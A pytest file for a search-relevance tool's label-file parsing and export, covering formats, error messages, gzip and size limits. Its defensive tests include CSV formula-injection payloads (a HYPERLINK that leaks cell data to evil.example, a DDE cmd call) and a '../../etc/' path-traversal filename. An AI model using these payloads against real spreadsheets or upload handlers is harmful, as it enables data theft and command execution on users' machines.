"""Label files: round trips for every format, format detection, line-numbered errors."""

from __future__ import annotations

import pytest

from ltrr_core.base.labels import (
    FORMATS,
    Judgment,
    LabelFileError,
    detect_format,
    read_labels,
    to_qrels,
    with_queries,
    write_labels,
)

ODD_QUERIES = [
    'red, "loud" shoes',  # comma and quotes need CSV quoting
    "Beyoncé — Déjà Vu",
    "ブルー 東京",
    "emoji 🎧🔥 mix",
    "tab\tand\nnewline inside",
    "  leading and trailing spaces  ",
    "zero\u200bwidth and \u2028separator",
]
SUFFIX = {"trec": "qrels", "beir": "tsv", "csv": "csv"}


def _judgments(with_text: bool) -> list[Judgment]:
    out = []
    for i, query in enumerate(ODD_QUERIES):
        for j, grade in enumerate((3, 0, 2)):
            query_id = query if with_text else f"q-{i}"
            out.append(Judgment(query_id, f"doc_{i}_{j}é", grade, query if with_text else ""))
    return out


@pytest.mark.parametrize("fmt", ["trec", "beir"])
def test_id_formats_round_trip(tmp_path, fmt):
    judgments = _judgments(with_text=False) + [Judgment("q-big", "d1", 7)]
    path = write_labels(judgments, tmp_path / f"labels.{SUFFIX[fmt]}", fmt)
    assert read_labels(path, fmt) == judgments
    assert detect_format(path) == fmt


def test_csv_round_trips_odd_unicode_and_quoting(tmp_path):
    judgments = _judgments(with_text=True)
    path = write_labels(judgments, tmp_path / "labels.csv", "csv")
    text = path.read_text(encoding="utf-8")
    assert text.startswith("query,docid,rating\n")
    assert '"red, ""loud"" shoes"' in text  # commas and quotes are CSV-quoted
    assert read_labels(path, "csv") == judgments
    assert detect_format(path) == "csv"


def test_every_registered_format_is_covered():
    assert set(FORMATS) == set(SUFFIX)


def test_reads_the_scifact_beir_qrels(scifact_dir):
    judgments = read_labels(scifact_dir / "qrels" / "test.tsv")
    assert judgments[0] == Judgment("1", "31715818", 1)
    qrels = to_qrels(judgments)
    assert len(qrels) == 300 and all(g >= 0 for docs in qrels.values() for g in docs.values())


def test_trec_accepts_any_second_column_and_blank_lines(tmp_path):
    path = tmp_path / "run.qrels"
    path.write_text("q1 Q0 d1 2\n\n q2\t0\td2   0 \r\n", encoding="utf-8")
    assert read_labels(path) == [Judgment("q1", "d1", 2), Judgment("q2", "d2", 0)]


def test_csv_header_is_case_insensitive_and_bom_is_accepted(tmp_path):
    path = tmp_path / "quepid.csv"
    path.write_bytes("\ufeffQuery, DocID ,Rating\r\nblue suede,d9,1\r\n".encode("utf-8"))
    assert read_labels(path) == [Judgment("blue suede", "d9", 1, "blue suede")]


def test_to_qrels_and_with_queries():
    judgments = [Judgment("1", "a", 2), Judgment("1", "b", 0), Judgment("2", "a", 1)]
    assert to_qrels(judgments) == {"1": {"a": 2, "b": 0}, "2": {"a": 1}}
    texts = with_queries(judgments, {"1": "one", "2": "two"})
    assert [j.query for j in texts] == ["one", "one", "two"]
    with pytest.raises(ValueError, match=r"'2'"):
        with_queries(judgments, {"1": "one"})


@pytest.mark.parametrize(
    ("fmt", "content", "line", "problem"),
    [
        ("trec", "q1 0 d1 1\nq1 0 d2\n", 2, "expected 4 columns"),
        ("trec", "q1 0 d1 1\n\nq1 0 d2 high\n", 3, "non-integer grade 'high'"),
        ("trec", "q1 0 d1 -1\n", 1, "grade -1 is outside >= 0"),
        ("trec", "q1 0 d1 1\nq1 0 d1 2\n", 2, r"duplicate judgment .* \(first at line 1\)"),
        ("beir", "1\t2\t1\n", 1, "missing header"),
        ("beir", "query-id\tcorpus-id\tscore\n1\t2\t1\n1\t3\n", 3, "expected 3 tab-separated columns, found 2"),
        ("beir", "query-id\tcorpus-id\tscore\n1\t\t1\n", 2, "empty doc id"),
        ("beir", "query-id\tcorpus-id\tscore\n1\td\t1.5\n", 2, "non-integer grade '1.5'"),
        ("csv", "q,d,r\nx,y,1\n", 1, "missing header"),
        ("csv", "query,docid,rating\nred shoes,d1,4\n", 2, r"grade 4 is outside 0\.\.3"),
        ("csv", "query,docid,rating\nred, shoes,d1,2\n", 2, "expected 3 columns"),
        ("csv", 'query,docid,rating\n"multi\nline",d1,1\n,d2,1\n', 4, "empty query"),
        ("csv", "query,docid,rating\nred shoes,d1,\n", 2, "empty grade"),
        ("csv", 'query,docid,rating\nok,d1,1\n"bad"x,d2,1\n', 3, "malformed CSV"),
    ],
)
def test_bad_files_name_file_line_and_problem(tmp_path, fmt, content, line, problem):
    path = tmp_path / f"bad.{SUFFIX[fmt]}"
    path.write_text(content, encoding="utf-8", newline="")
    with pytest.raises(LabelFileError, match=rf"bad\.{SUFFIX[fmt]}: line {line}: {problem}.*; ") as err:
        read_labels(path, fmt)
    assert str(path) in str(err.value)


def test_non_utf8_file_names_the_line(tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes("query,docid,rating\ncafé,d1,1\n".encode("latin-1"))
    with pytest.raises(LabelFileError, match=r"line 2: not UTF-8 text; re-save"):
        read_labels(path)


def test_undetectable_and_unknown_formats(tmp_path):
    path = tmp_path / "labels.dat"
    path.write_text("what is this\n", encoding="utf-8")
    with pytest.raises(LabelFileError, match="cannot tell the label format.*pass fmt="):
        detect_format(path)
    with pytest.raises(LabelFileError, match="unknown label format 'xml'; choose one of trec, beir, csv"):
        read_labels(path, "xml")
    with pytest.raises(LabelFileError, match="cannot read"):
        read_labels(tmp_path / "missing.qrels", "trec")


def test_writers_refuse_what_the_format_cannot_hold(tmp_path):
    with pytest.raises(LabelFileError, match="no query text.*with_queries"):
        write_labels([Judgment("q1", "d1", 1)], tmp_path / "a.csv", "csv")
    with pytest.raises(LabelFileError, match="grade 5 is outside 0..3"):
        write_labels([Judgment("q1", "d1", 5, "text")], tmp_path / "a.csv", "csv")
    with pytest.raises(LabelFileError, match="'query_id' = 'two words' contains whitespace"):
        write_labels([Judgment("two words", "d1", 1)], tmp_path / "a.qrels", "trec")
    with pytest.raises(LabelFileError, match="'doc_id' = 'd\\\\t1' contains a tab"):
        write_labels([Judgment("q", "d\t1", 1)], tmp_path / "a.tsv", "beir")
    with pytest.raises(LabelFileError, match="judgment 2: duplicate judgment"):
        write_labels([Judgment("q", "d", 1), Judgment("q", "d", 2)], tmp_path / "a.tsv", "beir")
    assert not list(tmp_path.iterdir())  # nothing half-written


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"query_id": "", "doc_id": "d", "grade": 1}, "query_id"),
        ({"query_id": "q", "doc_id": "", "grade": 1}, "doc_id"),
        ({"query_id": "q", "doc_id": "d", "grade": -1}, "grade"),
        ({"query_id": "q", "doc_id": "d", "grade": 1.0}, "grade"),
        ({"query_id": "q", "doc_id": "d", "grade": True}, "grade"),
    ],
)
def test_judgment_validates_fields(kwargs, field):
    with pytest.raises(ValueError, match=f"field '{field}'"):
        Judgment(**kwargs)


# -- import and export through the engine (the Labelling page and `ltrr labels` share this path) --


@pytest.fixture()
def small_engine(tmp_path):
    from ltrr_core.catalog.schema import Catalog, Entity
    from ltrr_core.base.config import Settings
    from ltrr_core.engine import Engine

    catalog = Catalog([Entity(f"d{i}", "document", f"doc {i}") for i in range(5)], source="tiny")
    return Engine.open("tiny", Settings(cache_dir=tmp_path / "cache", db_path=tmp_path / "f.db"), catalog=catalog)


def test_import_stores_known_documents_in_one_go_and_counts_unknown_ones(small_engine, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("query,docid,rating\nfirst query,d1,3\nfirst query,d2,0\nsecond,missing,2\n", encoding="utf-8")
    report = small_engine.labelling.import_labels(path, fmt=None, judge="ann")
    assert (report.imported, report.unknown, report.unknown_example) == (2, 1, "missing")
    assert "Skipped 1" in report.message()
    assert sorted((lab.entity_id, lab.grade) for lab in small_engine.labelling.labels("ann")) == [("d1", 3), ("d2", 0)]


@pytest.mark.parametrize("name,content,line", [
    ("bad.csv", "query,docid,rating\nq,d1,2\nq,d2,x\n", 3),
    ("high.qrels", "q1 0 d1 1\nq1 0 d2 4\n", 2),  # above the studio's 0..3 scale
])
def test_a_bad_row_names_its_line_and_stores_nothing(small_engine, tmp_path, name, content, line):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(LabelFileError, match=f"line {line}"):
        small_engine.labelling.import_labels(path, fmt=None, judge="ann")
    assert small_engine.labelling.labels() == []


def test_an_upload_is_read_from_memory_under_its_shown_name_only(small_engine, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    report = small_engine.labelling.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,2\n"), fmt=None,
                                                  judge="web")
    assert report.imported == 1 and not any(tmp_path.parent.glob("etc"))
    with pytest.raises(LabelFileError, match=r"^evil\.csv: line 2"):
        small_engine.labelling.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,9\n"), fmt=None,
                                             judge="web")


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_export_then_import_gives_back_the_same_labels(small_engine, tmp_path, fmt):
    small_engine.labelling.label("Late Night Jazz", "d1", 3, judge="ann")
    small_engine.labelling.label("late night jazz", "d2", 1, judge="ann")
    text = small_engine.labelling.export_labels(fmt, judge="ann")
    path = tmp_path / f"labels.{SUFFIX[fmt]}"
    path.write_text(text, encoding="utf-8")
    small_engine.labelling.import_labels(path, fmt, judge="bob")
    mine = {(lab.normalized_query, lab.entity_id, lab.grade) for lab in small_engine.labelling.labels("ann")}
    assert {(lab.normalized_query, lab.entity_id, lab.grade) for lab in small_engine.labelling.labels("bob")} == mine


# --- bad files end in one LabelFileError; exports are spreadsheet-safe --------------------------

def _gzip_of(text: str) -> bytes:
    import gzip

    return gzip.compress(text.encode("utf-8"))


@pytest.mark.parametrize("damage", ["truncated", "corrupt"])
def test_a_damaged_gz_label_file_is_one_label_file_error(tmp_path, damage):
    from ltrr_core.base.labels import parse_labels

    whole = _gzip_of("".join(f"q{i} 0 d{i} 1\n" for i in range(2000)))
    data = whole[: len(whole) // 2] if damage == "truncated" else whole[:20] + b"\xff" * 40 + whole[60:]
    path = tmp_path / "labels.qrels.gz"
    path.write_bytes(data)
    with pytest.raises(LabelFileError, match=r"labels\.qrels\.gz: cannot read it at (line \d+|the start) .*truncated or corrupt"):
        read_labels(path, "trec")
    with pytest.raises(LabelFileError, match=r"labels\.qrels\.gz: cannot read it"):  # the Labelling upload
        parse_labels(data, "labels.qrels.gz")


def test_a_gz_label_file_reads_like_the_plain_one(tmp_path):
    from ltrr_core.base.labels import parse_labels

    text = "query-id\tcorpus-id\tscore\nq1\td1\t2\nq2\td2\t0\n"
    path = tmp_path / "qrels.tsv.gz"
    path.write_bytes(_gzip_of(text))
    assert read_labels(path) == parse_labels(path.read_bytes(), path.name) == [Judgment("q1", "d1", 2), Judgment("q2", "d2", 0)]


def test_an_over_long_line_is_refused_with_the_limit_while_streaming(tmp_path):
    from ltrr_core.base.text_files import MAX_LINE_CHARS

    path = tmp_path / "huge.qrels"
    with path.open("w") as out:
        out.write("q1 0 d1 1\n")
        out.write("q" * (3 * MAX_LINE_CHARS) + " 0 d2 1\n")  # a 3 MB query id
    with pytest.raises(LabelFileError, match=rf"line 2: longer than the limit of {MAX_LINE_CHARS:,} characters"):
        read_labels(path, "trec")


@pytest.mark.parametrize(("fmt", "line", "what", "limit"), [
    ("trec", "{long} 0 d1 1\n", "query id", "1,024"),
    ("trec", "q1 0 {long} 1\n", "doc id", "1,024"),
    ("csv", "query,docid,rating\n{long},d1,1\n", "query", "2,048"),
])
def test_ids_and_queries_over_their_limit_are_refused(tmp_path, fmt, line, what, limit):
    path = tmp_path / f"labels.{SUFFIX[fmt]}"
    path.write_text(line.format(long="x" * 5000))
    with pytest.raises(LabelFileError, match=rf"line \d: the {what} has 5,000 characters, over the limit of {limit}"):
        read_labels(path, fmt)


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\tleading tab", "'=already quoted"]


def test_csv_export_neutralises_formula_cells_and_reads_them_back(tmp_path):
    from ltrr_core.base.records import Label
    from ltrr_core.feedback.exchange import export_labels

    labels = [Label(q, " ".join(q.split()), f"-doc{i}" if i == 2 else f"doc{i}", 1, "analyst") for i, q in enumerate(FORMULAS)]
    labels.append(Label("nul\x00inside", "nul inside", "doc_nul", 2, "analyst"))
    text = export_labels(labels, "csv")  # what `ltrr labels export x.csv` and the Labelling download write
    assert "\x00" not in text
    import csv
    import io

    cells = [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row[:2]]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    assert cells[0].startswith("'=HYPERLINK") and cells[2] == "'+cmd|' /C calc'!A0" and cells[5] == "'-doc2"
    path = tmp_path / "export.csv"
    path.write_text(text, newline="")
    back = read_labels(path)
    assert [j.query for j in back] == [*FORMULAS, "nulinside"]
    assert [j.doc_id for j in back][:3] == ["doc0", "doc1", "-doc2"]


def test_a_leading_carriage_return_is_neutralised_too():
    from ltrr_core.base.text_files import from_spreadsheet_cell, spreadsheet_cell

    assert spreadsheet_cell("\rcalc") == "'\rcalc" and from_spreadsheet_cell("'\rcalc") == "\rcalc"
    assert spreadsheet_cell("plain 'quote") == "plain 'quote" and spreadsheet_cell("a\x00b") == "ab"


def test_topics_files_give_query_ids_their_text():
    from ltrr_core.base.labels import LabelFileError, parse_topics

    trec = b"<top>\n<num> Number: 301\n<title> International Organized Crime\n\n<desc> Description:\nx\n</top>\n" \
           b"<top>\n<num> Number: q1 <title> late night\n jazz\n</top>\n"
    assert parse_topics(trec, "topics.301") == {"301": "International Organized Crime", "q1": "late night jazz"}
    jsonl = b'{"_id": "q1", "text": "late night jazz"}\n{"_id": 7, "text": "rock"}\n'
    assert parse_topics(jsonl, "queries.jsonl") == {"q1": "late night jazz", "7": "rock"}
    assert parse_topics(b"q1\tlate night jazz\n\nq2\t\xc2\xbfd\xc3\xb3nde?\n", "t.tsv") == {"q1": "late night jazz",
                                                                                         "q2": "¿dónde?"}
    with pytest.raises(LabelFileError, match=r"t.txt: line 2: neither a TREC topic"):
        parse_topics(b"q1\tjazz\njust words\n", "t.txt")
